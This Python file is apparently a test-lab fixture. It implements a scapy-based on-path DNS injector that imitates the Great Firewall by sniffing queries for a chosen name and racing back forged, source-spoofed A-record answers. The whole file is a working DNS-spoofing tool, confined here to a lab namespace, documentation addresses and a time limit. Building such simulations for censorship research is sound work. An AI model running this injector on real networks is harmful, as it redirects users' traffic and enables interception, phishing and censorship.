"""An on-path DNS injector (scapy), the Great Firewall's way: it watches queries cross the router
and races a forged answer back to the client, spoofed from the address the query went to.

Run inside the ISP namespace: `python -m tests.lab.injector --iface r0 --name dns-injected.lab
--answer 203.0.113.66 --ttl 200`. It stops by itself after `--lifetime` seconds.
"""

from __future__ import annotations

import argparse
import sys


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--iface", required=True)
    parser.add_argument("--name", required=True, help="inject answers for this name (and names under it)")
    parser.add_argument("--answer", required=True, help="the forged A record")
    parser.add_argument("--ttl", type=int, default=200, help="IP TTL of forged replies (a tell-tale)")
    parser.add_argument("--lifetime", type=float, default=3600)
    args = parser.parse_args()

    from scapy.all import DNS, DNSRR, IP, UDP, send, sniff  # imported late: scapy is slow to load

    suffix = args.name.rstrip(".").encode() + b"."

    def is_target_query(packet) -> bool:  # type: ignore[no-untyped-def]
        if not (packet.haslayer(IP) and packet.haslayer(UDP) and packet.haslayer(DNS)):
            return False
        dns = packet[DNS]
        if packet[UDP].dport != 53 or dns.qr != 0 or dns.qd is None:
            return False
        question = dns.qd[0] if hasattr(dns.qd, "__getitem__") else dns.qd
        return question.qtype == 1 and bytes(question.qname).lower().endswith(suffix)

    def inject(packet) -> None:  # type: ignore[no-untyped-def]
        dns = packet[DNS]
        question = dns.qd[0] if hasattr(dns.qd, "__getitem__") else dns.qd
        forged = (
            IP(src=packet[IP].dst, dst=packet[IP].src, ttl=args.ttl)
            / UDP(sport=53, dport=packet[UDP].sport)
            / DNS(
                id=dns.id,
                qr=1,
                rd=1,
                ra=1,
                qd=question,
                an=DNSRR(rrname=question.qname, type="A", ttl=300, rdata=args.answer),
            )
        )
        send(forged, verbose=False)

    def started() -> None:
        print("injector ready", flush=True)

    sniff(
        iface=args.iface,
        lfilter=is_target_query,
        prn=inject,
        store=False,
        timeout=args.lifetime,
        started_callback=started,
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
